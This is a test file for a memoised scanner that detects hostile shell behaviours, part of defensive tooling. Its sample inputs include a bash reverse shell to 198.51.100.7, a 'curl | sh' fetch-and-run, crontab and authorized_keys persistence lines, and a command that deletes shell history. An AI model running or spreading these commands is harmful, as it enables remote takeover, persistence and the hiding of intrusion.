import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type ScanContext, scan } from './behaviours.js';
import { SCAN_MEMO_ENTRIES, scanMemoSize, scanOnce } from './scan-memo.js';

/** A context that counts the reads of each field. */
function counting(packageHook: boolean, root: boolean): ScanContext & { reads: { packageHook: number; root: number } } {
  const reads = { packageHook: 0, root: 0 };
  return {
    reads,
    get packageHook() {
      reads.packageHook++;
      return packageHook;
    },
    get root() {
      reads.root++;
      return root;
    },
  };
}

/** Texts whose scan reads the package-hook flag (cron), the root flag (a user's authorized_keys), both, or neither. */
const TEXTS = [
  'echo "* * * * * root /opt/x.sh" >> /etc/crontab',
  'echo ssh-rsa AAAA >> ~/.ssh/authorized_keys',
  'echo ssh-rsa AAAA >> ~/.ssh/authorized_keys\necho "@reboot /opt/x" >> /etc/crontab',
  'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
  'rm -f ~/.bash_history',
  '/usr/bin/ls -la /tmp',
  'curl -s http://198.51.100.7/x | sh',
];

describe('scanOnce', () => {
  it('gives the same answer as scan for every text and context, in any order', () => {
    const call = fc.record({
      text: fc.constantFrom(...TEXTS),
      packageHook: fc.boolean(),
      root: fc.boolean(),
    });
    fc.assert(
      fc.property(fc.array(call, { minLength: 1, maxLength: 30 }), (calls) => {
        for (const c of calls) {
          const ctx = { packageHook: c.packageHook, root: c.root };
          expect(scanOnce(c.text, ctx)).toEqual(scan(c.text, ctx));
        }
      }),
      { numRuns: 300, seed: 20261206 },
    );
  });

  it('scans a recurring text once: the second call returns the first answer without reading the context', () => {
    const text = 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1 # once';
    const first = scanOnce(text, counting(false, false));
    expect(first.map((f) => f.id)).toEqual(['reverse-shell']);
    const ctx = counting(true, true);
    expect(scanOnce(text, ctx)).toBe(first);
    expect(ctx.reads).toEqual({ packageHook: 0, root: 0 });
    expect(Object.isFrozen(first) && Object.isFrozen(first[0]) && Object.isFrozen(first[0]!.lines)).toBe(true);
  });

  it('scans again when a context field the scan read differs, and reads only what the scan reads', () => {
    const text = 'echo "* * * * * root /opt/y.sh" >> /etc/crontab # hook';
    const outside = scanOnce(text, counting(false, false));
    expect(outside.map((f) => f.id)).toEqual(['cron-persistence']);
    const inHook = counting(true, false);
    expect(scanOnce(text, inHook)).toEqual([]);
    expect(inHook.reads.root).toBe(0);
    expect(scanOnce(text, counting(false, true))).toEqual(outside);
  });

  it('stays bounded: past its entry cap it starts over', () => {
    for (let i = 0; i < SCAN_MEMO_ENTRIES + 10; i++)
      scanOnce(`rm -f /home/u${i}/.bash_history`, counting(false, false));
    expect(scanMemoSize()).toBeLessThanOrEqual(SCAN_MEMO_ENTRIES);
    expect(scanMemoSize()).toBeGreaterThan(0);
  });
});
